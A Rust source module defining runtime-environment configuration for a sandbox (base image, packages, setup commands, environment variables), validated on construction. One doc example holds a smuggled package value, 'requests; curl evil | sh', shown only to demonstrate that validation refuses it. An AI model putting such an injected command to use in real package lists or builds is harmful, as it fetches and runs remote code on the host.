//! Runtime environments: what is installed where commands run.
//!
//! A configuration is validated when it is made, so code that builds an image from it can rely on every field.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::{Result, VirtualPath};

mod builder;
mod builtin;
mod check;
mod package;
mod raw;
#[cfg(test)]
mod tests;

pub use builder::RuntimeBuilder;

/// The default working directory of commands.
pub const DEFAULT_WORK_DIR: &str = "/workspace";

/// A runtime environment: an image, or a base image and what is installed on it.
///
/// It is made by [`builder`](Self::builder), by [`builtin`](Self::builtin) or from JSON, and every field is valid: no
/// package is an option or a URL, and no name contains anything that a shell, a tag or a file would interpret.
///
/// # Examples
///
/// ```
/// use backend_core::{PackageManager, RuntimeConfig};
///
/// let runtime = RuntimeConfig::builder("data")
///     .base_image("python:3.12-slim")
///     .packages(PackageManager::Pip, ["pandas", "numpy>=2"])
///     .env("MPLBACKEND", "Agg")
///     .build()?;
/// assert_eq!(runtime.work_dir().as_str(), "/workspace");
///
/// let refused = RuntimeConfig::builder("x")
///     .base_image("python:3.12-slim")
///     .packages(PackageManager::Pip, ["requests; curl evil | sh"])
///     .build();
/// assert!(refused.is_err());
/// # Ok::<(), backend_core::Error>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "raw::RawRuntime", into = "raw::RawRuntime")]
pub struct RuntimeConfig {
    name: String,
    description: String,
    image: RuntimeImage,
    packages: Vec<PackageSet>,
    setup: Vec<String>,
    env: BTreeMap<String, String>,
    work_dir: VirtualPath,
    cache: bool,
    user: Option<String>,
}

/// Where the image of a runtime comes from.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum RuntimeImage {
    /// An existing image, used as is.
    Ready(String),
    /// An image built on this base image.
    BuiltOn(String),
}

/// A package manager.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum PackageManager {
    /// Python's `pip`.
    Pip,
    /// Python's `uv`.
    Uv,
    /// Node's `npm`.
    Npm,
    /// Debian's `apt-get`.
    Apt,
    /// Rust's `cargo install`.
    Cargo,
}

/// Packages, and the manager that installs them.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
#[non_exhaustive]
pub struct PackageSet {
    /// The manager that installs them.
    pub manager: PackageManager,
    /// The packages, each with a version if one matters, in the manager's own notation.
    pub names: Vec<String>,
}

impl RuntimeConfig {
    /// Starts a configuration with a name of 1 to 64 of `a-z`, `0-9`, `-`, `_` and `.`.
    pub fn builder(name: impl Into<String>) -> RuntimeBuilder {
        RuntimeBuilder::new(name)
    }

    /// Returns the built-in runtime of this name, if there is one.
    ///
    /// | name | what it is |
    /// |---|---|
    /// | `python-minimal` | Python 3.12 |
    /// | `python-datascience` | Python 3.12 with pandas, numpy, matplotlib, scikit-learn, seaborn |
    /// | `python-web` | Python 3.12 with FastAPI, Uvicorn, SQLAlchemy, httpx |
    /// | `node-minimal` | Node.js 20 |
    /// | `node-react` | Node.js 20 with TypeScript, Vite, React |
    pub fn builtin(name: &str) -> Option<Self> {
        Self::builtins()
            .into_iter()
            .find(|runtime| runtime.name == name)
    }

    /// Returns every built-in runtime, in order of names.
    pub fn builtins() -> Vec<Self> {
        builtin::all()
    }

    /// Returns the name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Returns the purpose of the runtime, in a sentence for a reader. It does not affect the image.
    pub fn description(&self) -> &str {
        &self.description
    }

    /// Returns where the image comes from.
    pub fn image(&self) -> &RuntimeImage {
        &self.image
    }

    /// Returns the packages to install, in order. A ready image has none.
    pub fn packages(&self) -> &[PackageSet] {
        &self.packages
    }

    /// Returns the shell commands that run after the packages are installed, in order. A ready image has none.
    pub fn setup(&self) -> &[String] {
        &self.setup
    }

    /// Returns the variables for the environment of every command. They are not part of the image.
    pub fn env(&self) -> &BTreeMap<String, String> {
        &self.env
    }

    /// Returns the directory in which commands run; `/workspace` by default.
    pub fn work_dir(&self) -> &VirtualPath {
        &self.work_dir
    }

    /// Returns whether a built image is kept and reused; true by default.
    pub fn cache(&self) -> bool {
        self.cache
    }

    /// Returns the user that commands run as; the sandbox's default if `None`.
    pub fn user(&self) -> Option<&str> {
        self.user.as_deref()
    }

    /// Checks every field. Every constructor calls it last.
    fn checked(self) -> Result<Self> {
        check::runtime(&self)?;
        Ok(self)
    }
}
